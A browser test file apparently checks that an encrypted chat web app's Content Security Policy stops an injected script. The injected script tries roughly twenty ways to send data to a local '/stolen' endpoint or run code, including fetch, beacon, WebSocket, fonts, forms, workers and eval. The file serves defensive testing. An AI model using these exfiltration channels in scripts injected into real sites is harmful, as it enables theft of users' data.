import './cheap-argon2.js';
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { describeInChromium } from '../browser/chromium.js';
import { type Person, WebApp } from '../browser/web-app.js';

/**
 * What a script can do that has come into the page all the same: here one that the relay serves, among the app's own. It may act as
 * whoever sits there, as long as the app is unlocked (docs/threat-model.md).
 */

const BUILD = resolve(__dirname, '../../dist/web');
/** Each in the page's own words: nothing of it goes by way of the tools of a browser, which may pass over policies. */
const WAYS_OUT = `
const until = (event, target) => new Promise((done) => target.addEventListener(event, () => done(event)));
const either = (...events) => Promise.race([...events, new Promise((done) => setTimeout(done, 1500, 'nothing'))]);
const added = (name, set) => {
  const element = Object.assign(document.createElement(name), set);
  document.body.append(element);
  return element;
};
const failing = async (work) => {
  try {
    return String(await work());
  } catch (error) {
    return error.name;
  }
};
globalThis.injected = {
  fetch: (to) => failing(() => fetch(to, { mode: 'no-cors' }).then(() => 'sent')),
  xhr: (to) => failing(() => new Promise((done, fail) => {
    const request = new XMLHttpRequest();
    request.open('POST', to);
    request.onload = () => done('sent');
    request.onerror = () => fail(new TypeError('refused'));
    request.send('x');
  })),
  webSocket: (to) => failing(() => {
    const socket = new WebSocket(to.replace('http', 'ws'));
    return either(until('open', socket), until('error', socket));
  }),
  eventSource: (to) => failing(() => {
    const source = new EventSource(to);
    return either(until('open', source), until('error', source));
  }),
  beacon: (to) => failing(() => navigator.sendBeacon(to, 'x')),
  image: (to) => failing(() => { const image = new Image(); image.src = to; return either(until('load', image), until('error', image)); }),
  video: (to) => failing(() => { const video = added('video', { src: to }); return either(until('loadeddata', video), until('error', video)); }),
  style: (to) => failing(() => { const link = added('link', { rel: 'stylesheet', href: to }); return either(until('load', link), until('error', link)); }),
  prefetch: (to) => failing(() => { const link = added('link', { rel: 'prefetch', href: to }); return either(until('load', link), until('error', link)); }),
  font: (to) => failing(() => new FontFace('x', 'url(' + to + ')').load().then(() => 'loaded')),
  iframe: (to) => failing(() => { const frame = added('iframe', { src: to }); return either(until('securitypolicyviolation', document)); }),
  object: (to) => failing(() => { const object = added('object', { data: to }); return either(until('load', object), until('error', object)); }),
  form: (to) => failing(() => {
    const form = added('form', { action: to, method: 'post', target: '_self' });
    const refused = until('securitypolicyviolation', document);
    form.submit();
    return either(refused);
  }),
  imported: (to) => failing(() => import(to).then(() => 'ran')),
  worker: (to) => failing(() => new Worker(to)),
  serviceWorker: (to) => failing(() => navigator.serviceWorker.register(to)),
  markup: () => failing(() => { document.body.innerHTML = '<b>x</b>'; return 'written'; }),
  script: (to) => failing(() => { added('script', { src: to }); return 'written'; }),
  // By a timer: what a debugger calls may evaluate.
  evaluated: () => new Promise((done) => setTimeout(() => done(failing(() => globalThis.eval('"ran"'))))),
  policy: () => failing(() => trustedTypes.createPolicy('mine', { createHTML: (text) => text })),
};`;

describeInChromium('a script that was injected into the web app (C-63)', () => {
  const copy = mkdtempSync(join(tmpdir(), 'sealpost-web-'));
  let requests = 0;
  let elsewhere: Server;
  let target: string;
  let app: WebApp;
  let ada: Person;

  beforeAll(async () => {
    cpSync(BUILD, copy, { recursive: true });
    for (const suffix of ['.br', '.gz']) rmSync(join(copy, `index.html${suffix}`));
    const page = readFileSync(join(copy, 'index.html'), 'utf8');
    writeFileSync(
      join(copy, 'index.html'),
      page.replace('</head>', '<script src="/assets/injected.js"></script></head>'),
    );
    writeFileSync(join(copy, 'assets/injected.js'), WAYS_OUT);
    elsewhere = createServer((_request, reply) => {
      requests++;
      reply.writeHead(200, { 'access-control-allow-origin': '*' }).end('1');
    });
    await new Promise<void>((listening) => elsewhere.listen(0, '127.0.0.1', listening));
    target = `http://127.0.0.1:${String((elsewhere.address() as AddressInfo).port)}/stolen`;
    app = await WebApp.start({ WEB_DIR: copy });
    ada = await app.newPerson('ada.lovelace');
    await ada.register();
    await ada.keepRecoveryCode();
    await ada.sees('No chats yet');
  }, 60_000);
  afterAll(async () => {
    await app.stop();
    elsewhere.close();
    rmSync(copy, { recursive: true });
  });

  const attempt = (name: string): Promise<unknown> =>
    ada.page.evaluate(
      ([way, to]) => {
        const { injected } = globalThis as unknown as { injected: Record<string, (to: string) => Promise<string>> };
        return injected[way]!(to);
      },
      [name, target] as const,
    );

  it.each([
    ['fetch', 'TypeError'],
    ['xhr', 'TypeError'],
    ['webSocket', 'error'],
    ['eventSource', 'error'],
    ['beacon', /.*/],
    ['image', 'error'],
    ['video', 'error'],
    ['style', 'error'],
    ['prefetch', 'error'],
    ['font', 'NetworkError'],
    ['iframe', 'securitypolicyviolation'],
    ['object', 'TypeError'],
    ['form', 'securitypolicyviolation'],
    ['imported', 'TypeError'],
  ])('reaches no other origin by %s', async (way, outcome) => {
    expect(await attempt(way)).toMatch(outcome);
    expect(requests).toBe(0);
  });

  it.each([
    ['worker', 'TypeError'],
    ['serviceWorker', 'TypeError'],
    ['markup', 'TypeError'],
    ['script', 'TypeError'],
    ['evaluated', 'EvalError'],
    ['policy', 'TypeError'],
  ])('makes no text or address into code by %s', async (way, outcome) => {
    expect(await attempt(way)).toBe(outcome);
    expect(requests).toBe(0);
  });

  it('cannot reach its own relay either: the worker alone can', async () => {
    const reached = await ada.page.evaluate(() =>
      fetch('/v1/server').then(
        () => 'reached',
        () => 'refused',
      ),
    );
    expect(reached).toBe('refused');
  });

  it('would be seen by the server elsewhere if anything came through', async () => {
    await fetch(target);
    expect(requests).toBe(1);
  });
});
